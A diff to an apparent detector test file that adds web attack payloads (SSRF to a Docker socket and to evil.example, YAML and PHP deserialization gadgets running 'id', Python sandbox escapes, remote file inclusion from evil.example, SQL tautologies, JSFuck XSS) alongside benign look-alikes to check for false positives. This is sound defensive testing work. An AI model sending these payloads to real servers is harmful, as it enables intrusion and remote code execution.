@@ -283,6 +283,31 @@ const ATTACKS: ReadonlyArray<readonly [string, string]> = [
   ['xss-js-escaped-tag', '/p?x=\\u003cscript\\u003ealert(1)'],
   ['rce-sleep-probe', '/p?x=1;sleep+5'],
   ['php-non-alphanumeric', '/p?x=$_=[];$_=@"$_";'],
+  // Less common forms of the families: SSRF to a Unix socket or over TFTP, Node.js's Function reached through
+  // its prototype, YAML deserialization gadgets, Python's object graph, Smarty, PHP-only names and callbacks,
+  // a signed serialized length, a URL written with backslashes, JSFuck with `+` read as a space, SQL tautologies.
+  ['generic-ssrf', '/fetch?url=unix:/var/run/docker.sock:/containers/json'],
+  ['generic-ssrf', '/fetch?url=tftp://evil.example:69/x'],
+  ['generic-node-call', "/api?x=new(Function.prototype.constructor)('x')()"],
+  ['generic-node-call', "/api?x=Function('x')('return%20process')"],
+  ['generic-yaml-deserialization', '/api?x=---%20!ruby/object:Gem::Installer%0ai:%20x'],
+  ['generic-yaml-deserialization', '/api?x=!!python/object/apply:os.system%20[%22id%22]'],
+  ['generic-yaml-deserialization', '/api?x=!!javax.script.ScriptEngineManager%20[!!java.net.URLClassLoader%20[[]]]'],
+  ['generic-python', '/api?x=().__class__.__bases__[0].__subclasses__()'],
+  ['generic-python', "/api?x=__builtins__.__dict__['eval']('1%2B1')"],
+  ['generic-python', "/api?x=compile('import%20os','','exec')"],
+  ['generic-template-injection', '/page?name={$smarty.version}'],
+  ['php-risky-name', '/index.php?f=phpinfo'],
+  ['sqli-numeric-tautology', '/item?id=-1%20or%202--'],
+  ['php-risky-name', '/index.php?x=escapeshellarg&y=proc_nice'],
+  ['php-risky-name', '/index.php?callback=system&arg=id'],
+  ['php-serialized', '/index.php?data=O:%2B8:"stdClass":0:{}'],
+  ['rfi-unc-path', '/index.php?src=http:\\\\evil.example\\x.php'],
+  ['xss-jsfuck', '/search?q=[][(![]+[])[+[]]]'],
+  ['xss-jsfuck', '/search?q=[!%2B[]%2B!%2B[]]'],
+  ['sqli-numeric-tautology', '/item?id=1%20or%201%23'],
+  ['sqli-numeric-tautology', '/item?id=1%20and%200x61646d696e=0x61646d696e'],
+  ['sqli-keyword', '/item?id=1%20PROCEDURE%20ANALYSE()'],
 ];
 
 /** Attacks in the User-Agent, for the detectors that read only that field. */
@@ -295,6 +320,19 @@ const USER_AGENT_ATTACKS: ReadonlyArray<readonly [string, string]> = [
 ];
 
 const BENIGN: readonly string[] = [
+  // The benign twins of the less common forms above: a socket, dunders, Smarty and PHP names in searches,
+  // a JSONP callback, a size range, a quiz answer, a number sign as pounds, brackets in a Markdown list.
+  '/docs?q=docker.sock+permissions',
+  '/docs?q=python+__init__+vs+__new__',
+  '/docs?q=__subclasses__',
+  '/docs?q=Function.prototype.constructor',
+  '/docs?q=smarty+templates+%7B%24var%7D',
+  '/api/products?callback=jQuery3510_1700000000&format=jsonp',
+  '/search?q=shoes+size+10+or+12',
+  '/quiz?answer=1+or+2',
+  '/shop/paper?weight=20+or+24%23',
+  '/notes?text=[+]+milk+[x]+bread',
+  '/api?x=0x1f%3D0x1f', // a hex value and its equal, with no operator word
   "/api/acl?path='/*'&verb=read", // a quoted glob, not a comment after a string
   '/go?u=https://cdn.example//assets//app.js', // doubled slashes in an ordinary URL
   '/conference/talks?session=3&track=web', // a session of talks, not a session id
